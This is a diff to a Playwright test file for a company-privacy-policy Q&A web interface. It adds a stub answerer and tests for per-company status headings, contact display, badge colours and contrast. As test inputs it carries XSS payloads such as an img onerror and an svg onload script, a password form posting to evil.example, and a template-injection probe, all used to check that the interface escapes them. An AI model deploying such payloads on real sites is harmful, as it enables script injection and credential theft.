@@ -5,7 +5,9 @@ import re
 import shutil
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
+from dataclasses import replace
 from pathlib import Path
+from typing import cast
 
 import gradio as gr
 import pytest
@@ -14,7 +16,8 @@ import ui
 from index import build
 from index.encoder import SentenceEncoder
 from index.read import read_folder
-from qa import PolicyQA
+from qa import Answer, Contact, PolicyQA, Quote, Source
+from qa.answer import CompanyAnswer
 
 playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
 from playwright.sync_api import Browser, Locator, Page, expect, sync_playwright  # noqa: E402
@@ -34,6 +37,7 @@ PAYLOADS = (
     "    <form action=http://evil.example><input name=password></form>\n"
     "👩‍👩‍👧 שלום \u202eevil\u202c <svg onload=window.PWNED=1> <!-- gone --> {{7*7}}.\n"
 )
+COLOUR = "one => getComputedStyle(one).color"
 EVIL = '<img src=x onerror=window.PWNED=1> *Evil* "Corp"'
 
 
@@ -71,6 +75,47 @@ def evil_qa(encoder: SentenceEncoder, tmp_path_factory: pytest.TempPathFactory) 
 @pytest.fixture(scope="module")
 def evil_chat(evil_qa: PolicyQA) -> Iterator[str]:
     page = launched(evil_qa)
+    yield str(page.local_url)
+    page.close(verbose=False)
+
+
+class Each:
+    """Answers any question by each of three companies in its own way."""
+
+    companies = ("Acme", EVIL, "Core")
+
+    def ask(self, question: str, history: object, companies: object) -> Answer:
+        text = "We keep it for one year."
+        first = Source(
+            1, "Acme", "Privacy Policy", None, "acme.txt", (), 0, 24, text, (Quote(0, 24),), 0.9
+        )
+        acme = (first, replace(first, rank=3, start=50, end=74, quotes=()))
+        evil = (replace(first, rank=2, company=EVIL, title=EVIL, file="evil.txt"),)
+        by_company = (
+            CompanyAnswer("Core", "not_found", 0.1, ()),
+            CompanyAnswer(EVIL, "related", 0.6, evil),
+            CompanyAnswer("Acme", "answered", 0.9, acme),
+        )
+        contact = Contact("email", EVIL, "privacy, hidden in the source", 2, 0, 2)
+        return Answer(
+            question=question,
+            resolved_question="",
+            status="answered",
+            reason="Acme answers this.",
+            confidence=0.9,
+            companies=self.companies,
+            unknown=(),
+            scope="question",
+            sources=(first, *evil, *acme[1:]),
+            by_company=by_company,
+            contacts=(contact,),
+            elapsed_ms=1,
+        )
+
+
+@pytest.fixture(scope="module")
+def each_chat() -> Iterator[str]:
+    page = launched(cast(PolicyQA, Each()))
     yield str(page.local_url)
     page.close(verbose=False)
 
@@ -166,12 +211,41 @@ def test_a_company_without_a_policy_is_named(page: Page, chat: str) -> None:
 def test_of_several_companies_each_is_shown(page: Page, chat: str) -> None:
     page.goto(chat)
     reply = ask(page, "How long do Kaseya and Timus keep my data?")
-    assert sorted(reply.locator("h3").all_inner_texts()) == ["Kaseya", "Timus Networks"]
+    headings = reply.get_by_role("heading", level=3).all_inner_texts()
+    assert sorted(heading.split(":")[0] for heading in headings) == ["Kaseya", "Timus Networks"]
     visible = reply.locator(".passage:visible")
     expect(visible).to_have_count(2)
     reply.get_by_text("more of Kaseya").click()
     reply.locator(".more .source summary:visible").first.click()
     expect(visible).to_have_count(3)
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+def test_each_company_has_its_own_status(page: Page, each_chat: str, theme: str) -> None:
+    page.set_viewport_size({"width": 360, "height": 740})
+    page.goto(f"{each_chat}?__theme={theme}")
+    reply = ask(page, "How long?")
+    assert reply.get_by_role("heading", level=2).all_inner_texts() == ["Answered"]
+    assert reply.get_by_role("heading", level=3).all_inner_texts() == [
+        "Acme: Answered 90% sure",
+        f"{EVIL}: Not clearly stated",
+        "Core: Not stated",
+    ]
+    acme, evil, core = reply.locator(".group").all()
+    expect(acme.locator(".contacts")).to_have_count(0)
+    hidden = evil.locator(".contacts li").inner_text().split()
+    assert " ".join(hidden) == f"E-mail {EVIL} privacy hidden in the source [2]"
+    expect(core.locator(".source")).to_have_count(0)
+    expect(reply.locator(".understood")).to_have_count(0)
+    expect(reply.locator("img")).to_have_count(0)
+    shades = {group.locator(".badge").evaluate(COLOUR) for group in (acme, evil, core)}
+    assert len(shades) == 3
+    for shown in (acme, evil, core):
+        assert contrast(shown.locator(".badge"), page.locator("body")) >= 4.5  # WCAG AA
+    acme.get_by_text("1 more of Acme").focus()
+    page.keyboard.press("Enter")
+    expect(acme.locator("details.source").nth(1).locator("summary")).to_be_visible()
+    assert page.evaluate("() => document.documentElement.scrollWidth") == 360
 
 
 def test_a_follow_up_leans_on_the_question_before_until_one_starts_over(
@@ -257,8 +331,12 @@ def test_text_stands_out_in_light_and_in_dark(
     for text, ground in ((mark, mark), (page.locator(".reason"), page.locator("body"))):
         ink, paper = luminance(text, "color"), luminance(ground, "backgroundColor")
         assert (ink < paper) == (darker == "text")
-        contrast = (max(ink, paper) + 0.05) / (min(ink, paper) + 0.05)
-        assert contrast >= 4.5  # WCAG AA
+        assert contrast(text, ground) >= 4.5  # WCAG AA
+
+
+def contrast(text: Locator, ground: Locator) -> float:
+    ink, paper = luminance(text, "color"), luminance(ground, "backgroundColor")
+    return (max(ink, paper) + 0.05) / (min(ink, paper) + 0.05)
 
 
 def luminance(shown: Locator, colour: str) -> float:
